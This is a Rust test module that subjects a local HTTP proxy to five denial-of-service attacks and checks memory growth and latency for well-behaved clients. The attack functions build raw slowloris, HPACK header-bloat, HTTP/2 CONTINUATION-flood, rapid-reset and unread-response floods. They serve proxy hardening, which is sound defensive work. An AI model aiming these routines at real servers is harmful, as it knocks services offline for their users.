//! Attacks: memory may grow by 64 MB at most, and those who behave keep half of what they would have beside a program that
//! just burns a CPU, none waiting for more than a second.

use crate::Result;
use crate::clients::{Tally, Target};
use crate::origin;
use crate::proxy::{Proxy, free_port};
use bytes::Bytes;
use http_body_util::{BodyExt, Empty};
use hyper::Request;
use hyper::client::conn::http1;
use hyper_util::rt::TokioIo;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::time::{Duration, Instant};
use tokio::task::JoinSet;

/// How long each is measured.
const LENGTH: Duration = Duration::from_secs(20);
const GROWTH_MB: f64 = 64.0;
const PATIENCE: Duration = Duration::from_secs(1);
/// Connections of those who behave.
const GOOD_ONES: usize = 16;

/// Attacks until `stop`; says how much it did, in a unit of its own.
type Attack = fn(SocketAddr, &AtomicBool) -> u64;

const ATTACKS: [(&str, &str, Attack); 5] = [
    ("slowloris", "header lines", slowloris),
    ("tiny-headers", "header fields", tiny_headers),
    ("continuation", "bytes of CONTINUATION", continuation),
    ("rapid-reset", "streams", rapid_reset),
    ("never-reads", "requests", never_reads),
];

fn config(port: u16, origin: SocketAddr, theirs: SocketAddr) -> String {
    format!(
        "admin: {{address: {{socket_address: {{address: 127.0.0.1, port_value: ${{admin}}}}}}}}
static_resources:
  listeners:
  - name: l
    address: {{socket_address: {{address: 127.0.0.1, port_value: {port}}}}}
    filter_chains:
    - filters:
      - name: http
        typed_config:
          \"@type\": type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager
          stat_prefix: soak
          route_config:
            virtual_hosts:
            - {{name: all, domains: ['*'], routes: [{{match: {{prefix: /}}, route: {{cluster: up}}}}]}}
            # A circuit breaker of their own for those who attack with whole requests, and a host apart: their host is called b.
            - {{name: theirs, domains: [b], routes: [{{match: {{prefix: /}}, route: {{cluster: theirs}}}}]}}
          http_filters: [{{name: router, typed_config: {{\"@type\": type.googleapis.com/envoy.extensions.filters.http.router.v3.Router}}}}]
  clusters:
  - name: up
    load_assignment: {{cluster_name: up, endpoints: [{{lb_endpoints: [{{endpoint: {{address: {{socket_address: {{address: 127.0.0.1, port_value: {origin}}}}}}}}}]}}]}}
  - name: theirs
    load_assignment: {{cluster_name: theirs, endpoints: [{{lb_endpoints: [{{endpoint: {{address: {{socket_address: {{address: 127.0.0.1, port_value: {theirs}}}}}}}}}]}}]}}
",
        origin = origin.port(),
        theirs = theirs.port()
    )
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut f = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    f.extend([kind, flags]);
    f.extend(stream.to_be_bytes());
    f.extend(payload);
    f
}

/// `:method GET`, `:scheme http`, `:authority b`, and the path.
fn head(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x41, 1, b'b', 0x04, path.len() as u8];
    block.extend(path.as_bytes());
    block
}

/// A connection that gives up rather than to block for ever.
fn connect(to: SocketAddr) -> Option<TcpStream> {
    let io = TcpStream::connect(to).ok()?;
    io.set_write_timeout(Some(Duration::from_millis(500))).ok()?;
    io.set_read_timeout(Some(Duration::from_millis(1))).ok()?;
    Some(io)
}

/// An HTTP/2 connection; whatever comes is read now and then, so that only what is meant blocks.
fn connect_h2(to: SocketAddr, settings: &[u8]) -> Option<TcpStream> {
    let mut io = connect(to)?;
    io.write_all(&[PREFACE, &frame(4, 0, 0, settings)].concat()).ok()?;
    Some(io)
}

/// Connections that send their head byte by byte.
fn slowloris(to: SocketAddr, stop: &AtomicBool) -> u64 {
    let mut all: Vec<TcpStream> = vec![];
    let mut lines = 0;
    while !stop.load(Relaxed) {
        while all.len() < 1500 {
            let Some(mut io) = connect(to) else { break };
            if io.write_all(b"GET / HTTP/1.1\r\nhost: a\r\n").is_ok() {
                all.push(io);
            }
        }
        all.retain_mut(|io| io.write_all(b"x: y\r\n").is_ok());
        lines += all.len() as u64;
        std::thread::sleep(Duration::from_millis(20));
    }
    lines
}

/// Heads of 100,000 tiny fields, over HTTP/1 and, as references to one entry of the table, over HTTP/2.
fn tiny_headers(to: SocketAddr, stop: &AtomicBool) -> u64 {
    let h1 =
        [b"GET / HTTP/1.1\r\nhost: a\r\n".to_vec(), b"a:b\r\n".repeat(100_000), b"\r\n".to_vec()].concat();
    // A field that is added to the table, and then its index again and again.
    let mut block = [head("/"), vec![0x40, 1, b'a', 1, b'b']].concat();
    block.extend([0xbe].repeat(100_000));
    let mut h2 = vec![];
    for (i, part) in block.chunks(16_000).enumerate() {
        let last = (i + 1) * 16_000 >= block.len();
        h2.extend(frame(if i == 0 { 1 } else { 9 }, u8::from(i == 0) | if last { 4 } else { 0 }, 1, part));
    }
    let mut fields = 0;
    while !stop.load(Relaxed) {
        if let Some(mut io) = connect(to) {
            let _ = io.write_all(&h1);
            let _ = io.read(&mut [0; 4096]);
        }
        if let Some(mut io) = connect_h2(to, b"") {
            let _ = io.write_all(&h2);
            let _ = io.read(&mut [0; 4096]);
        }
        fields += 200_000;
    }
    fields
}

/// A head that never ends.
fn continuation(to: SocketAddr, stop: &AtomicBool) -> u64 {
    let literal = [vec![0x00, 1, b'a', 0x7f, 0x80, 0x7f], vec![b'v'; 16_255]].concat();
    let more = frame(9, 0, 1, &literal);
    let mut bytes = 0;
    while !stop.load(Relaxed) {
        let Some(mut io) = connect_h2(to, b"") else { continue };
        let _ = io.write_all(&frame(1, 1, 1, &head("/")));
        while !stop.load(Relaxed) && io.write_all(&more).is_ok() {
            bytes += more.len() as u64;
        }
    }
    bytes
}

/// Streams that are reset as soon as they are begun.
fn rapid_reset(to: SocketAddr, stop: &AtomicBool) -> u64 {
    let block = head("/bytes/1000");
    let mut streams = 0;
    while !stop.load(Relaxed) {
        let Some(mut io) = connect_h2(to, b"") else { continue };
        let mut id = 1;
        while !stop.load(Relaxed) && id < 1 << 30 {
            let mut burst = vec![];
            for _ in 0..100 {
                burst.extend(frame(1, 5, id, &block));
                burst.extend(frame(3, 0, id, &[0, 0, 0, 8]));
                id += 2;
            }
            if io.write_all(&burst).is_err() {
                break;
            }
            streams += 100;
            let _ = io.set_nonblocking(true);
            let _ = io.read(&mut [0; 65_536]);
            let _ = io.set_nonblocking(false);
        }
    }
    streams
}

/// Many big answers, none of them read: over HTTP/1, and over HTTP/2 with the largest windows.
fn never_reads(to: SocketAddr, stop: &AtomicBool) -> u64 {
    let mut all: Vec<TcpStream> = vec![];
    let mut requests = 0;
    let window = [0, 4, 0x7f, 0xff, 0xff, 0xff];
    while !stop.load(Relaxed) {
        if all.len() >= 600 {
            std::thread::sleep(Duration::from_millis(20));
            continue;
        }
        if let Some(mut io) = connect(to) {
            requests +=
                u64::from(io.write_all(&b"GET /zeros HTTP/1.1\r\nhost: b\r\n\r\n".repeat(10)).is_ok());
            all.push(io);
        }
        if let Some(mut io) = connect_h2(to, &window) {
            let mut burst = frame(8, 0, 0, &0x7fff_0000u32.to_be_bytes());
            (0..50).for_each(|i| burst.extend(frame(1, 5, i * 2 + 1, &head("/zeros"))));
            requests += 50 * u64::from(io.write_all(&burst).is_ok());
            all.push(io);
        }
    }
    requests
}

/// A CPU that is busy with something else.
fn hog(_: SocketAddr, stop: &AtomicBool) -> u64 {
    let mut n = 0u64;
    while !stop.load(Relaxed) {
        n = std::hint::black_box(n + 1);
    }
    n
}

/// Asks one thing after the other; the longest wait is kept in `worst`, in microseconds.
async fn good_one(t: Arc<Tally>, to: Target, worst: Arc<AtomicU64>) {
    while !t.over() {
        let Ok(io) = to.connect("").await else { continue };
        let Ok((mut send, conn)) = http1::handshake(TokioIo::new(io)).await else { continue };
        tokio::spawn(conn);
        while !t.over() && send.ready().await.is_ok() {
            let began = Instant::now();
            let rq = Request::get("/bytes/1000").header("host", "a").body(Empty::<Bytes>::new());
            let answer = send.send_request(rq.expect("a request")).await;
            let whole = match answer {
                Ok(r) if r.status() == 200 => r.into_body().collect().await.is_ok(),
                _ => false,
            };
            worst.fetch_max(began.elapsed().as_micros() as u64, Relaxed);
            if whole { t.good() } else { t.odd("a request failed") }
        }
    }
}

struct Seen {
    good: u64,
    worst: Duration,
    done: u64,
    odd: Vec<(String, u64)>,
    resident: f64,
}

async fn beside(p: &Proxy, to: SocketAddr, attack: Attack) -> Result<Seen> {
    let stop = Arc::new(AtomicBool::new(false));
    let stopped = stop.clone();
    let attacker = std::thread::spawn(move || attack(to, &stopped));
    let (t, worst) = (Arc::new(Tally::default()), Arc::new(AtomicU64::new(0)));
    let mut all = JoinSet::new();
    for _ in 0..GOOD_ONES {
        all.spawn(good_one(t.clone(), Target { addr: to, trust: None }, worst.clone()));
    }
    let began = Instant::now();
    let mut resident = 0f64;
    while began.elapsed() < LENGTH {
        tokio::time::sleep(Duration::from_millis(200)).await;
        resident = resident.max(p.resident()?);
    }
    t.stop();
    while all.join_next().await.is_some() {}
    stop.store(true, Relaxed);
    let done = tokio::task::spawn_blocking(|| attacker.join()).await?.map_err(|_| "the attacker panicked")?;
    Ok(Seen {
        good: t.good.load(Relaxed),
        worst: Duration::from_micros(worst.load(Relaxed)),
        done,
        odd: t.odd_ones(),
        resident,
    })
}

pub async fn run(bin: &str, names: &[String]) -> Result<()> {
    if let Some(unknown) = names.iter().find(|n| !ATTACKS.iter().any(|a| a.0 == n.as_str())) {
        return Err(format!("there is no attack {unknown}").into());
    }
    let (origin, theirs) = (origin::start().await?, origin::start_apart()?);
    let mut failures = vec![];
    for (name, unit, attack) in ATTACKS.iter().filter(|a| names.is_empty() || names.iter().any(|n| n == a.0))
    {
        let port = free_port()?;
        let mut p = Proxy::start(bin, &config(port, origin, theirs)).await?;
        let to = SocketAddr::from(([127, 0, 0, 1], port));
        let calm = beside(&p, to, hog).await?;
        let seen = beside(&p, to, *attack).await?;
        let growth = seen.resident - calm.resident;
        println!(
            "{name}: {} {unit}; {} answers ({} beside a busy CPU), the slowest {:.0?}, memory +{growth:.1} MB",
            seen.done, seen.good, calm.good, seen.worst
        );
        if let Err(e) = p.well() {
            failures.push(format!("{name}: {e}"));
        }
        if growth > GROWTH_MB {
            failures.push(format!("{name}: memory grew by {growth:.1} MB"));
        }
        if seen.good * 2 < calm.good {
            failures.push(format!("{name}: others had less than half"));
        }
        if seen.worst > PATIENCE {
            failures.push(format!("{name}: somebody waited for {:.1?}", seen.worst));
        }
        failures.extend(seen.odd.into_iter().map(|(what, n)| format!("{name}: {n} x {what}")));
    }
    if failures.is_empty() { Ok(()) } else { Err(failures.join("; ").into()) }
}
